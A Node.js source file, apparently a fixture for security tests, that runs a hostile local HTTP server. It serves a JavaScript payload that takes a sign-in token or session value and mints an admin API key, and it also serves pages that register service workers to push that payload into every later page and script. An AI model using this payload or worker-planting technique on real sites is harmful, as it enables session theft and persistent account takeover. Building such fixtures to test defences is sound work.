// Becomes another user, who may read neither the checkout nor a data folder: nothing is imported but what Node brings.
import { createServer, request } from 'node:http'

const { port, hosts = ['127.0.0.1', '::1'], uid, relayTo, json, answers = {} } = JSON.parse(process.argv[2])
if (uid !== undefined) {
  process.setgroups([uid])
  process.setgid(uid)
  process.setuid(uid)
}
const forever = { 'cache-control': 'public, max-age=31536000, immutable' }

/** Runs in whatever page it got into: takes the sign-in's token, or its half, and makes an admin key with it. */
const steal = `(async () => {
  const ask = (path, body, half) => fetch(path, { method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json', ...(half ? { 'x-bhor-session': half } : {}) } })
  const token = location.hash.split('sign-in=')[1]
  const half = token ? (await (await ask('/v1/desk/sign-in', { token })).json()).csrf : sessionStorage.getItem('bhor-session')
  if (half) await ask('/v1/keys', { name: 'stolen', scopes: ['admin'] }, half)
  document.title = 'owned'
})()`

/** Leaves a worker of this kind, and every file that is named. */
const planting = `<!doctype html><title>planting</title><script>(async () => {
  const asked = new URLSearchParams(location.search)
  for (const path of asked.get('also').split(',')) await fetch(path)
  const kind = asked.get('worker')
  if (kind !== 'none') {
    await navigator.serviceWorker.register('/worker.js?' + kind, { scope: '/', updateViaCache: kind === 'updating' ? 'imports' : 'all' })
    await navigator.serviceWorker.ready
  }
  document.title = 'planted'
})()</script>`

/** full: answers pages and scripts. scripts: those alone. passive, updating: nothing. */
const worker = (kind) => `
const own = (body, type) => new Response(body, { headers: { 'content-type': type } })
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
${
  kind === 'passive' || kind === 'updating'
    ? ''
    : `addEventListener('fetch', (event) => {
  const script = ${JSON.stringify(steal)}
  if (event.request.mode === 'navigate') {
    if (${kind === 'full'}) event.respondWith(own('<!doctype html><title>his</title><script>' + script + '</' + 'script>', 'text/html'))
  } else if (event.request.destination === 'script') event.respondWith(own(script, 'text/javascript'))
})`
}`

function answer(target, accept = '') {
  if (json !== undefined) return [json, 'application/json']
  if (target.startsWith('/worker.js')) return [worker(target.split('?')[1]), 'text/javascript']
  if (target.includes('worker=')) return [planting, 'text/html']
  if (target.endsWith('.js')) return [steal, 'text/javascript']
  if (target.endsWith('.css')) return ['body { display: none }', 'text/css']
  if (target === '/' || target === '/index.html' || accept.includes('html'))
    return [`<!doctype html><title>his</title><script>${steal}</script>`, 'text/html']
  return ['{}', 'application/json']
}

function hear(message, response) {
  const chunks = []
  message.on('data', (chunk) => chunks.push(chunk))
  message.on('end', () => {
    console.log(
      `${message.method} ${message.url} ${JSON.stringify(message.headers)} ${Buffer.concat(chunks)}`,
    )
    if (relayTo !== undefined && message.url.startsWith('/v1/proof')) {
      const headers = { host: `127.0.0.1:${relayTo}` }
      request({ port: relayTo, host: '127.0.0.1', path: message.url, headers }, (reply) => {
        response.writeHead(reply.statusCode, reply.headers)
        reply.pipe(response)
      }).end()
      return
    }
    const said = answers[message.url.split('?')[0]]
    if (said !== undefined) {
      response.writeHead(said.status, { 'content-type': 'application/json' }).end(JSON.stringify(said.json))
      return
    }
    const [body, type] = answer(message.url, message.headers.accept)
    response.writeHead(200, { 'content-type': type, 'service-worker-allowed': '/', ...forever }).end(body)
  })
}

let open = 0
const opened = () => {
  open += 1
  if (open === hosts.length) console.log('listening')
}
for (const host of hosts)
  createServer(hear)
    .on('error', (error) => {
      if (host !== '::1' || error.code === 'EADDRINUSE') throw error
      // A computer without ::1.
      opened()
    })
    .listen(port, host, opened)
